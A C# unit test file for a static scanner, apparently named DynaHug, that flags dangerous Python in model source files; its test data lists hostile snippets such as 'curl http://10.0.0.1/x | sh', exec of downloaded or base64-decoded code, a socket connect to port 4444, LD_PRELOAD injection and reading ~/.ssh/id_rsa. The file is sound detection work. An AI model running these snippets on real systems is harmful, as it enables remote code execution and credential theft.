using DynaHug.Shared.Static;
using static DynaHug.Shared.Tests.Static.Bytes;

namespace DynaHug.Shared.Tests.Static;

/// <summary>Sources are texts here; nobody runs them.</summary>
public sealed class PythonSourceSpecs
{
    [Theory]
    [InlineData("import os\nos.system('id')", "os.system(\"id\")")]
    [InlineData("import os as o\no.popen('id')", "os.popen")]
    [InlineData("from os import system as s\ns('id')", "os.system")]
    [InlineData("from os import (path, system)\n", "os.system")]
    [InlineData("def late():\n    __import__('os').system('id')", "os.system")]
    [InlineData("import importlib\nimportlib.import_module('subprocess').run(['sh', '-c', 'id'])", "subprocess.run")]
    [InlineData("import os\ngetattr(os, 'system')('id')", "os.system")]
    [InlineData("import subprocess\nsubprocess.Popen(['/bin/sh', '-i'])", "subprocess.Popen")]
    [InlineData("from subprocess import check_output\ncheck_output('id', shell=True)", "subprocess.check_output")]
    [InlineData("exec('import os; os.system(1)')", "os.system")]
    [InlineData("import base64\nx = base64.b64decode('aWQ=')\nexec(x)", "decodes first")]
    [InlineData("import zlib\nexec(zlib.decompress(b'x'))", "decodes first")]
    [InlineData("import urllib.request\nexec(urllib.request.urlopen('http://a').read())", "downloads first")]
    [InlineData("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))", "connects")]
    [InlineData("import json\njson.loads = lambda t: {}", "replaces json.loads")]
    [InlineData("import torch\ntorch.load = lambda *a: {}", "replaces torch.load")]
    [InlineData("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'", "LD_PRELOAD")]
    [InlineData("import sys\nsys.modules['requests'] = None", "requests")]
    [InlineData("open('/home/u/.ssh/id_rsa')", "id_rsa")]
    [InlineData("run('curl http://10.0.0.1/x | sh')", "shell command")]
    [InlineData("import ctypes, mmap\nm = mmap.mmap(-1, 9)\nctypes.CFUNCTYPE(None)", "maps memory")]
    [InlineData("import os\nos\\\n  .system('id')", "os.system")]
    [InlineData("import os\n𝐨𝐬.system('id')", "only look different")]
    public void Names_what_acts_on_the_system(string source, string evidence) =>
        Read(Of(System.Text.Encoding.UTF8.GetBytes(source)), "modeling_x.py").Findings
            .ShouldContain(finding => finding.Severity == Severity.Dangerous && finding.Evidence.Contains(evidence));

    [Theory]
    [InlineData("# os.system('id')\n")]
    [InlineData("\"\"\"Run `curl http://x | sh` first; see ~/.ssh/config. os.system('id')\"\"\"\n")]
    [InlineData("import torch\nmodel.eval()\nre.compile('x')\nself.exec('x')\n")]
    [InlineData("import os\npath = os.path.join(os.environ.get('HOME', ''), 'x')\nos.makedirs(path, exist_ok=True)\n")]
    [InlineData("import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsubprocess.run([sys.executable, '-m', 'pip'])\n")]
    [InlineData("import base64, requests\nimage = base64.b64decode(x)\nrequests.get(url)\n")]
    [InlineData("import transformers\ntransformers.models.llama.modeling_llama.LlamaAttention.forward = mine\n")]
    [InlineData("import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n")]
    [InlineData("import json\nif json.loads == None: pass\nf(json=json.loads)\n")]
    [InlineData("import socket\ns = socket.socket()\ns.bind(('', 0))\n")]
    [InlineData("import pickle, importlib\npickle.load(f)\nimportlib.import_module(name)\n")]
    public void Says_nothing_of_what_models_do_every_day(string source) =>
        Read(Of(source), "modeling_x.py").Findings.ShouldNotContain(finding => finding.Severity == Severity.Dangerous);

    [Fact]
    public void A_source_by_its_own_name_has_to_be_imported_in_the_sandbox()
    {
        Read(Of("x = 1\n"), "modeling_x.py").Outcome.ShouldBeNull();
        Read(Of("#!/usr/bin/env python3\nx = 1\n"), "tool").Outcome.ShouldBeNull();
    }

    [Theory]
    [InlineData("'")]
    [InlineData("\"\"\"open")]
    [InlineData("from")]
    [InlineData("import ")]
    [InlineData("from . import")]
    [InlineData("os.system(")]
    [InlineData("getattr(os,")]
    [InlineData("__import__('os').")]
    [InlineData("os.environ['LD_PRELOAD'")]
    [InlineData("f'{x")]
    [InlineData("\\")]
    [InlineData("'\\u12")]
    public void Reads_to_the_end_of_what_breaks_off(string source) => Should.NotThrow(() => Read(Of(source), "x.py"));
}
